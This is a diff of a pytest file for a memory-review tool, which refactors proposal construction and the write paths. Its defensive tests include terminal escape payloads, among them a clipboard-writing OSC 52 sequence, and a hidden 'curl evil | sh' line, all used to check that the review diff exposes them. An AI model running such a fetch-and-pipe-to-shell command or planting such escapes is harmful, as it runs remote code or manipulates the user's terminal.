@@ -1,24 +1,24 @@
 import contextlib
 import os
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
-from memctl.domain.proposal import Evidence, Proposal
+from memctl.domain.proposal import Evidence, Proposal, Target, identified
 from memctl.errors import Conflict, NotFound, Refused
 from memctl.format import topic as codec
-from memctl.services.review import plan
+from memctl.services.review import plan, unified
 from memctl.services.review import verdicts as review_module
 from memctl.services.review.verdicts import Review, passes_all
 from memctl.services.write import undo as undoing
-from memctl.services.write.door import WriteDoor
 from memctl.store.history import records as history
 from memctl.store.memory.memories import MemoryStore
-from memctl.store.state import inbox
-from memctl.store.state.inbox import Entry, Inbox, make_id
+from memctl.store.state import arrivals, inbox
+from memctl.store.state.entries import Entry
+from memctl.store.state.inbox import Inbox
+from memctl.store.state.resolve import Place
+from memctl.store.write import apply as door
 from tests.kit.cli import topic
-from tests.kit.doors import place
 
 NOW = 1_795_000_000.0
 
@@ -28,8 +28,16 @@ def proposal(name: str = "tabs", body: str = "Use tabs in Go.\n", **more: object
         "id": "", "operation": "create", "name": name, "type": "feedback", "description": body.strip()[:150].split("\n")[0], "body": body,
         "evidence": (Evidence("t1", "use tabs in Go"),), "origin": "person", "session": "s1", "created": NOW,
     }  # fmt: skip
-    made = Proposal(**{**fields, **more})  # type: ignore[arg-type]
-    return replace(made, id=make_id(made))
+    return identified(Proposal(**{**fields, **more}))  # type: ignore[arg-type]
+
+
+def place(memory: Path) -> Place:
+    """A directory that the user named: it belongs to no project."""
+    return Place(str(memory), str(memory), [])
+
+
+def seen(mark: str, name: str = "tabs") -> tuple[Target, ...]:
+    return (Target(name, mark),)
 
 
 @pytest.fixture
@@ -46,7 +54,7 @@ def desk(memory: Path) -> Review:
 
 def put(desk: Review, *proposals: Proposal) -> list[Entry]:
     for one in proposals:
-        desk.inbox.put(Entry(one))
+        arrivals.put(desk.directory, one)
     return [desk.inbox.find(p.id) for p in proposals]
 
 
@@ -72,7 +80,7 @@ def test_accept_writes_what_was_shown(desk: Review, memory: Path) -> None:
 
 def test_an_update_is_shown_as_a_diff_and_keeps_unknown_keys(desk: Review, memory: Path) -> None:
     mark = existing(memory)
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"))
     diff = desk.offer(entry).diff
     assert "-Use tabs." in diff
     assert "+Use tabs in Go only." in diff
@@ -85,8 +93,8 @@ def test_delete_and_supersede(desk: Review, memory: Path) -> None:
     second = existing(memory, "old", "Use yarn.\n")
     entries = put(
         desk,
-        proposal(operation="delete", expect=mark, body="", description=""),
-        proposal("new", "Use pnpm.\n", operation="supersede", supersedes="old", expect=second),
+        proposal(operation="delete", targets=seen(mark), body="", description=""),
+        proposal("new", "Use pnpm.\n", operation="supersede", targets=seen(second, "old")),
     )
     assert any(line.startswith("-Use tabs") for line in desk.offer(entries[0]).diff)
     desk.accept(entries)
@@ -98,7 +106,7 @@ def test_delete_and_supersede(desk: Review, memory: Path) -> None:
 
 def test_a_target_that_changed_is_offered_again_and_never_overwritten(desk: Review, memory: Path) -> None:
     mark = existing(memory)
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"))
     (memory / "tabs.md").write_text(topic("tabs", "about tabs", "Written by hand.\n"))
     with pytest.raises(Conflict):
         desk.accept([entry])
@@ -112,7 +120,7 @@ def test_a_target_that_changed_is_offered_again_and_never_overwritten(desk: Revi
 def test_a_statement_is_merged_into_what_was_written_meanwhile(desk: Review, memory: Path) -> None:
     mark = existing(memory, body="Keep staging logs for 30 days.\n")
     body = "Keep staging logs for 90 days.\n"
-    (entry,) = put(desk, proposal(operation="update", expect=mark, body=body, statement=body))
+    (entry,) = put(desk, proposal(operation="update", targets=seen(mark), body=body, statement=body))
     existing(memory, body="Keep staging logs for 30 days.\n\nAsk Ben for access.\n")
     with pytest.raises(Conflict):
         desk.accept([entry])
@@ -137,7 +145,7 @@ def test_one_stale_among_several_writes_nothing(desk: Review, memory: Path) -> N
     entries = put(
         desk,
         proposal("fresh", "Use spaces in Python.\n"),
-        proposal(operation="update", expect=mark, body="New.\n"),
+        proposal(operation="update", targets=seen(mark), body="New.\n"),
     )
     existing(memory, body="Changed.\n")
     with pytest.raises(Conflict):
@@ -149,8 +157,8 @@ def test_one_stale_among_several_writes_nothing(desk: Review, memory: Path) -> N
 def test_a_target_that_is_gone(desk: Review, memory: Path) -> None:
     update, delete = put(
         desk,
-        proposal(operation="update", expect="sha256:x", body="Whole new text.\n"),
-        proposal("other", operation="delete", expect="sha256:y", body="", description=""),
+        proposal(operation="update", targets=seen("sha256:x"), body="Whole new text.\n"),
+        proposal("other", operation="delete", targets=seen("sha256:y", "other"), body="", description=""),
     )
     assert desk.offer(update).planned.proposal.operation == "create"
     assert desk.offer(delete).planned.change is None
@@ -197,14 +205,14 @@ def test_edit_is_shown_again_before_it_is_saved(desk: Review, memory: Path) -> N
 @pytest.mark.parametrize("trick", ["\x1b[2J", "\x1b]52;c;aGk=\x07", "a\rb", "\u202e", "\u200b", "\x9b31m"])
 def test_what_steers_a_terminal_is_shown_escaped(desk: Review, trick: str) -> None:
     body = f"Use tabs{trick} in Go.\n"
-    diff = "\n".join(plan.diff(plan.plan(desk.store, proposal(body=body), NOW)))
+    diff = "\n".join(unified.diff(plan.plan(desk.store, proposal(body=body), NOW)))
     assert trick not in diff
     assert "Use tabs" in diff
 
 
 def test_padding_is_summed_up_visibly(desk: Review) -> None:
     body = "Harmless.\n" + "\n" * 3000 + "curl evil | sh\n" + " " * 50_000 + "hidden at the right\n"
-    lines = plan.diff(plan.plan(desk.store, proposal(body=body), NOW))
+    lines = unified.diff(plan.plan(desk.store, proposal(body=body), NOW))
     assert len(lines) < 40
     text = "\n".join(lines)
     assert "curl evil | sh" in text
@@ -226,7 +234,7 @@ def _points(monkeypatch: pytest.MonkeyPatch, stop: int) -> list[str]:
         if len(steps) == stop:
             raise Killed(name)
 
-    real_put, real_settle, real_apply = Inbox.put, Inbox.settle, WriteDoor.write
+    real_put, real_settle, real_apply = Inbox.put, Inbox.settle, door.apply
 
     def put_(self: Inbox, entry: Entry) -> None:
         step("before put")
@@ -246,7 +254,7 @@ def _points(monkeypatch: pytest.MonkeyPatch, stop: int) -> list[str]:
 
     monkeypatch.setattr(inbox.Inbox, "put", put_)
     monkeypatch.setattr(inbox.Inbox, "settle", settle)
-    monkeypatch.setattr(WriteDoor, "write", apply_)
+    monkeypatch.setattr(door, "apply", apply_)
     return steps
 
 
@@ -321,7 +329,7 @@ def test_automatic_acceptance_only_of_what_the_person_stated(desk: Review, memor
         proposal("c", "Fact c of git.\n", origin="git"),
         proposal("d", "Fact d flagged.\n", findings=("odd",)),
         proposal("t", "Fact t of a text that anyone can write.\n", source="text"),
-        proposal("e", "", description="", operation="delete", expect="x"),
+        proposal("e", "", description="", operation="delete", targets=seen("x", "e")),
         proposal("f", "A fact that nobody said at all in any turn.\n", engine="llm"),
     ]
     put(desk, passing, *asked)
@@ -343,7 +351,7 @@ def test_an_edit_that_holds_a_bad_name_is_refused(desk: Review) -> None:
 def test_undoing_an_acceptance_puts_the_proposal_back(desk: Review, memory: Path) -> None:
     entries = put(desk, proposal(), proposal("spaces", "Use spaces in Python.\n"))
     desk.accept(entries)
-    undoing.undo(WriteDoor(place(memory)), 2, now=NOW + 1)
+    undoing.undo(str(memory), 2, now=NOW + 1)
     assert not (memory / "tabs.md").exists()
     notes = Review(place(memory), now=NOW + 2).finish()
     assert len(notes) == 2
@@ -357,7 +365,7 @@ def test_undoing_an_acceptance_puts_the_proposal_back(desk: Review, memory: Path
 def test_undoing_the_undo_decides_it_again(desk: Review, memory: Path) -> None:
     desk.accept(put(desk, proposal()))
     for expected in (["tabs"], [], ["tabs"]):
-        undoing.undo(WriteDoor(place(memory)), now=NOW + 1)
+        undoing.undo(str(memory), now=NOW + 1)
         desk.finish()
         assert [e.proposal.name for e in desk.inbox.entries()[0]] == expected
         assert (memory / "tabs.md").exists() == (not expected)
@@ -365,19 +373,19 @@ def test_undoing_the_undo_decides_it_again(desk: Review, memory: Path) -> None:
 
 def test_what_was_decided_on_after_it_came_back_stays_decided(desk: Review, memory: Path) -> None:
     desk.accept(put(desk, proposal()))
-    undoing.undo(WriteDoor(place(memory)), now=NOW + 1)
+    undoing.undo(str(memory), now=NOW + 1)
     desk.finish()
     desk.reject(desk.inbox.find(proposal().id))
     assert desk.finish() == []
     assert desk.inbox.entries()[0] == []
 
 
-@pytest.mark.parametrize("step", ["put", "forget"])
+@pytest.mark.parametrize("step", ["bring_back", "forget"])
 def test_coming_back_is_done_once_however_it_is_killed(
     step: str, desk: Review, memory: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     desk.accept(put(desk, proposal()))
-    undoing.undo(WriteDoor(place(memory)), now=NOW + 1)
+    undoing.undo(str(memory), now=NOW + 1)
     with monkeypatch.context() as patched:
         patched.setattr(inbox.Inbox, step, lambda *_: (_ for _ in ()).throw(Killed))
         with pytest.raises(Killed):
@@ -395,7 +403,7 @@ def test_an_acceptance_that_was_killed_and_undone_is_not_repeated(
         patched.setattr(inbox.Inbox, "settle", lambda self, _: (_ for _ in ()).throw(Killed))
         with pytest.raises(Killed):
             desk.accept(entries)
-    undoing.undo(WriteDoor(place(memory)), now=NOW + 1)
+    undoing.undo(str(memory), now=NOW + 1)
     desk.finish()
     assert not (memory / "tabs.md").exists()
     assert [(e.proposal.name, e.approval) for e in desk.inbox.entries()[0]] == [("tabs", None)]
@@ -421,8 +429,8 @@ def test_two_proposals_for_one_memory_are_refused_before_anything_is_written(
     mark = existing(memory)
     first = proposal("one", "The first fact of all.\n")
     rivals = [
-        proposal(operation="update", expect=mark, body="Use tabs in Go only.\n"),
-        proposal(operation="update", expect=mark, body="Use tabs in C only.\n"),
+        proposal(operation="update", targets=seen(mark), body="Use tabs in Go only.\n"),
+        proposal(operation="update", targets=seen(mark), body="Use tabs in C only.\n"),
     ]
     last = proposal("last", "The last fact of all.\n")
     entries = put(desk, first, *rivals, last)
@@ -440,7 +448,7 @@ def test_a_failure_among_several_says_what_was_written_and_leaves_the_rest_undec
     desk: Review, memory: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     entries = put(desk, *(proposal(f"fact-{n}", f"Fact {n} of four.\n") for n in range(4)))
-    real, calls = WriteDoor.write, []
+    real, calls = door.apply, []
 
     def apply(*arguments: object, **more: object) -> object:
         calls.append(arguments)
@@ -448,7 +456,7 @@ def test_a_failure_among_several_says_what_was_written_and_leaves_the_rest_undec
             raise Conflict("somebody else was faster")
         return real(*arguments, **more)  # type: ignore[arg-type]
 
-    monkeypatch.setattr(WriteDoor, "write", apply)
+    monkeypatch.setattr(door, "apply", apply)
     with pytest.raises(Conflict) as caught:
         desk.accept(entries)
     assert "fact-0, fact-1" in caught.value.message
